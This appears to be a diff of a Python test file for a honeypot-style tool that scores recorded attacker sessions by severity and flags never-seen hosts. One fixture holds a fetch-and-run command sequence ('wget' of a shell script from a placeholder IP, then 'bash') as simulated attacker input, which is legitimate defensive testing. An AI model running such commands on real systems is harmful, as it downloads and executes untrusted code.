@@ -225,12 +225,14 @@ async def test_the_worst_sessions_are_read_first_then_what_is_new_and_scripts_on
     await store(repo, *events, ended("again-before", [], 10.0))
     worker = await worker_of(repo, settings_of(tmp_path))
     await judge(worker, repo, *events)
-    rows = await repo.sessions_worth_reading(400.0)
-    assert [(row["session_id"], row["severity"], row["alike"]) for row in rows] == [
-        ("again", "high", 1), ("first", "high", 1), ("old", "high", 2), ("fetched", "medium", 1), ("looked", "low", 1),
-    ]  # fmt: skip
-    assert [row["session_id"] for row in rows if row["new"]] == ["again", "first", "old", "fetched", "looked"]
-    assert (await repo.sessions_worth_reading(400.0, limit=1))[0]["session_id"] == "again"
+    (source,) = (await repo.since(400.0, 9000.0)).sources
+    assert (source["session_id"], source["severity"], source["sessions"], source["playbooks"]) == (
+        "first",
+        "high",
+        6,
+        5,
+    )
+    assert source["unseen"], "its newest session of the worst brought a host that was never seen before"
     alike = [
         (row["severity"], row["session_count"], row["story_line"]) for row in await repo.list_playbooks(400.0)
     ]
@@ -240,11 +242,8 @@ async def test_the_worst_sessions_are_read_first_then_what_is_new_and_scripts_on
     later = ended("before", ["wget http://203.0.113.9/z.sh", "bash z.sh", "w"], 5.0)
     await store(repo, later)
     await judge(worker, repo, later)
-    assert [row["session_id"] for row in await repo.sessions_worth_reading(400.0)][:3] == [
-        "first",
-        "old",
-        "again",
-    ]
+    assert (await repo.since(400.0, 2999.0)).sources[0]["session_id"] == "again"
+    assert not (await repo.since(400.0, 2999.0)).sources[0]["unseen"], "an older log had its script"
 
 
 async def test_a_session_that_is_purged_takes_its_story_along(repo: BaseRepository, tmp_path: Path) -> None:
